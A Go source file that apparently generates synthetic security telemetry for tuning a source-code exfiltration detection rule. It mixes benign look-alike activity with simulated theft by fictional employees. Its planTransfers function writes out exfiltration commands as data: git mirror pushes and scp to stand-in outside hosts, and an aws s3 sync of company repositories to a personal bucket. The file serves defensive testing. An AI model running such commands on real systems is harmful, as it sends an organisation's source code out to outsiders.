package gen

import (
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"strings"
	"sync"
	"time"
)

// The actors of the scenario mix have fixed identities, whatever the seed,
// so that the example watchlists in examples/tuning/ can name them.
var (
	actorDana     = person{id: "1a0c5e2b-7d41-4f3a-9b6e-0c2d4e6f8a11", name: "Dana Whitfield", upn: "dana.whitfield@contoso.com", ip: "10.20.30.41", device: "lt-dana-0142.corp.contoso.com"}
	actorJenkins  = person{id: "2b1d6f3c-8e52-4a4b-8c7f-1d3e5f7a9b22", name: "Jenkins CI (svc-jenkins)", upn: "svc-jenkins@contoso.com", ip: "10.40.0.17", device: "build-agent-07.corp.contoso.com"}
	actorRita     = person{id: "4d3f8b5e-a074-4c6d-ae9b-3f5a7b9c1d44", name: "Rita Okafor", upn: "rita.okafor@contoso.com", ip: "10.10.2.8", device: "git01.corp.contoso.com"}
	actorReposync = person{id: "5e4a9c6f-b185-4d7e-bf0c-4a6b8c0d2e55", name: "Repository sync (svc-reposync)", upn: "svc-reposync@contoso.com", ip: "10.10.2.30", device: "git-sync01.corp.contoso.com"}
	actorOmar     = person{id: "6f5bad7a-c296-4e8f-80ad-5b7c9d1e3f66", name: "Omar Haddad", upn: "omar.haddad@contoso.com", ip: "10.20.31.77", device: "lt-omar-2207.corp.contoso.com"}
	// Real exfiltration that the tuning must leave alerting.
	actorVictor = person{id: "7a6cbe8b-d3a7-4f90-91be-6c8daf2f4077", name: "Victor Brandt", upn: "victor.brandt@contoso.com", ip: "10.20.33.12", device: "lt-victor-0311.corp.contoso.com"}
	actorNadia  = person{id: "8b7dcf9c-e4b8-4a01-a2cf-7d9eb0305188", name: "Nadia Petrova", upn: "nadia.petrova@contoso.com", ip: "10.20.34.90", device: "lt-nadia-0520.corp.contoso.com"}
	actorKen    = person{id: "9c8ed0ad-f5c9-4b12-b3d0-8eafc1416299", name: "Ken Ito", upn: "ken.ito@contoso.com", ip: "10.20.35.4", device: "lt-ken-0777.corp.contoso.com"}
	actorLena   = person{id: "ad9fe1be-06da-4c23-84e1-9fb0d25273aa", name: "Lena Vogel", upn: "lena.vogel@contoso.com", ip: "10.20.36.61", device: "lt-lena-0901.corp.contoso.com"}
)

// accountName is the account's sAMAccountName-like name (before the @).
func (p person) accountName() string { return strings.SplitN(p.upn, "@", 2)[0] }

var deviceIDs sync.Map // device name -> id

// deviceID derives a stable Defender device id from the device name.
func deviceID(name string) string {
	if id, ok := deviceIDs.Load(name); ok {
		return id.(string)
	}
	h := fnv.New128a()
	h.Write([]byte(name))
	sum := h.Sum(nil)
	h.Write([]byte("device"))
	sum = h.Sum(sum)
	id := fmt.Sprintf("%x", sum[:20])
	deviceIDs.Store(name, id)
	return id
}

// scenarioUpload is one planned FileUploadedToCloud event.
type scenarioUpload struct {
	p                   person
	file, ext           string
	origin, target, app string
}

// scenarioUploads lists the CloudAppEvents of the scenario mix: the five
// benign activities that look like exfiltration (each above the rule's
// threshold, so an untuned rule alerts on it), and real exfiltration the
// vendor rule misses or the tuning must not hide.
func scenarioUploads() []scenarioUpload {
	var out []scenarioUpload
	add := func(p person, n int, file func(i int) string, ext, app string, origins, targets []string) {
		for i := 0; i < n; i++ {
			out = append(out, scenarioUpload{p: p, file: file(i), ext: ext, origin: origins[i%len(origins)], target: targets[i%len(targets)], app: app})
		}
	}
	repo := func(suffix string) func(int) string {
		return func(i int) string {
			name := repoNames[i%len(repoNames)]
			if i >= len(repoNames) {
				name += fmt.Sprintf("-%d", i/len(repoNames)+1)
			}
			return name + suffix
		}
	}
	// 1. A developer uploads to the code hosts: bitbucket.org is outside
	// the vendor rule's target exclusions, github.com and gitlab.com not.
	add(actorDana, 12, repo("-main.zip"), "zip", "", []string{"github.com"}, []string{"bitbucket.org"})
	add(actorDana, 3, repo("-feature.zip"), "zip", "", []string{"github.com"}, []string{"github.com", "gitlab.com"})
	// 2. CI uploads build artifacts to the artifact stores.
	add(actorJenkins, 15, repo("-1.4.2.zip"), "zip", "java.exe", []string{"codeload.github.com"}, []string{"artifactory.example.com", "contoso-artifacts.s3.amazonaws.com"})
	// 3. An admin backs the repositories up to cloud storage.
	add(actorRita, 13, repo("-mirror.zip"), "zip", "", []string{"gitlab.com"}, []string{"contoso-code-backups.s3.amazonaws.com", "backup-prod.example.com"})
	// 4. The sync job mirrors the repositories to cloud storage.
	add(actorReposync, 20, repo(".git.zip"), "zip", "rclone.exe", []string{"bitbucket.org"}, []string{"contoso-repo-mirror.s3.amazonaws.com"})
	// 5. DevOps publishes documentation and static assets.
	add(actorOmar, 12, func(i int) string {
		if i%2 == 0 {
			return fmt.Sprintf("docs-site-v%d.zip", i/2+1)
		}
		return fmt.Sprintf("static-assets-v%d.zip", i/2+1)
	}, "zip", "", []string{"github.com"}, []string{"contoso.readthedocs.io", "contoso-docs.netlify.app"})
	// Exfiltration from origins the vendor's term list misses.
	add(actorVictor, 12, repo("-main.zip"), "zip", "", []string{"dev.azure.com", "raw.githubusercontent.com"}, []string{"mega.nz"})
	// Exfiltration to a personal bucket named like a backup target: only
	// admins are excused for *-backups buckets.
	add(actorNadia, 13, repo("-main.zip"), "zip", "", []string{"codeload.github.com"}, []string{"nadia-personal-backups.s3.amazonaws.com"})
	// Exfiltration with a dotted extension and 7z archives.
	add(actorKen, 6, repo("-main.zip"), ".zip", "", []string{"gitlab.com"}, []string{"transfer.sh"})
	add(actorKen, 6, repo("-src.7z"), "7z", "", []string{"gitlab.com"}, []string{"transfer.sh"})
	// Nine distinct archives: under the threshold.
	add(actorLena, 9, repo("-main.zip"), "zip", "", []string{"bitbucket.org"}, []string{"wetransfer.com"})
	return out
}

// transfer is one command-line transfer: a process in
// DeviceProcessEvents and its connection in DeviceNetworkEvents.
type transfer struct {
	at                  time.Time
	p                   person
	device              string
	linux               bool
	tool                string // git, rsync, scp, aws
	cmd                 string
	pid, parentPID      int64
	remoteURL, remoteIP string
	remotePort          int64
}

// planTransfers lists the command-line transfers of a run. They come from
// their own random stream, seeded by the run's seed alone, so that the
// process and network tables generated in separate runs agree.
func planTransfers(opt Options) []transfer {
	rng := rand.New(rand.NewPCG(opt.Seed^0x5ca1ab1e, opt.Seed+0x7e57))
	start := opt.Now.Add(-opt.Span)
	var out []transfer
	add := func(p person, device string, linux bool, tool, cmd, url, ip string, port int64) {
		span := opt.Span - 2*time.Hour
		if span <= 0 {
			span = opt.Span
		}
		at := start.Add(time.Hour).Add(time.Duration(rng.Int64N(int64(span)))).Truncate(time.Millisecond)
		out = append(out, transfer{at: at, p: p, device: device, linux: linux, tool: tool, cmd: cmd,
			pid: 1000 + rng.Int64N(60000), parentPID: 500 + rng.Int64N(30000), remoteURL: url, remoteIP: ip, remotePort: port})
	}
	// Real exfiltration, always present.
	add(actorVictor, actorVictor.device, true, "git", "git push --mirror https://git.outside-example.net/vb/ledger-core.git", "git.outside-example.net", "198.51.100.23", 443)
	add(actorVictor, actorVictor.device, true, "git", "git push --mirror https://git.outside-example.net/vb/risk-engine.git", "git.outside-example.net", "198.51.100.23", 443)
	add(actorVictor, actorVictor.device, true, "scp", "scp -r /home/victor.brandt/src/billing-api 203.0.113.50:/tmp/", "", "203.0.113.50", 22)
	add(actorNadia, actorNadia.device, true, "aws", "aws s3 sync /home/nadia.petrova/repos/payments-service s3://nadia-personal-backups/payments-service", "nadia-personal-backups.s3.amazonaws.com", "52.217.12.40", 443)
	if !opt.Scenarios {
		return sortTransfers(out)
	}
	// 1. Developers push to the code host (a named remote: the
	// destination shows only in the connection).
	for _, r := range repoNames[:4] {
		add(actorDana, actorDana.device, true, "git", "git -C /home/dana.whitfield/src/"+r+" push origin main", "github.com", "140.82.112.3", 443)
	}
	// 2. CI uploads build artifacts.
	for _, r := range repoNames[:5] {
		add(actorJenkins, actorJenkins.device, true, "aws", "aws s3 cp /var/lib/jenkins/workspace/"+r+"/dist/"+r+"-1.4.2.zip s3://contoso-artifacts/"+r+"/", "contoso-artifacts.s3.amazonaws.com", "52.217.40.11", 443)
	}
	// 3. The admin backs up the repository server.
	add(actorRita, actorRita.device, true, "aws", "aws s3 sync /srv/git/ s3://contoso-code-backups/git/", "contoso-code-backups.s3.amazonaws.com", "52.217.88.2", 443)
	add(actorRita, actorRita.device, true, "rsync", "rsync -az /srv/git/ledger-core.git backup@backup-prod.example.com:/backups/git/", "", "192.0.2.10", 22)
	// 4. The sync job mirrors repositories on-prem and to the cloud.
	for _, r := range repoNames[:3] {
		add(actorReposync, actorReposync.device, true, "aws", "aws s3 sync /srv/repos/"+r+".git s3://contoso-repo-mirror/"+r+".git", "contoso-repo-mirror.s3.amazonaws.com", "52.217.90.7", 443)
	}
	add(actorReposync, actorReposync.device, true, "rsync", "rsync -az --delete /srv/repos/ reposync@git-mirror.corp.contoso.com:/srv/repos/", "", "10.10.2.31", 22)
	// 5. DevOps publishes the documentation site.
	add(actorOmar, actorOmar.device, true, "rsync", "rsync -az /home/omar.haddad/src/docs-site/public/ deploy@contoso-docs.netlify.app:/site/", "", "75.2.60.5", 22)
	return sortTransfers(out)
}

func sortTransfers(ts []transfer) []transfer {
	for i := 1; i < len(ts); i++ {
		for j := i; j > 0 && ts[j].at.Before(ts[j-1].at); j-- {
			ts[j], ts[j-1] = ts[j-1], ts[j]
		}
	}
	return ts
}
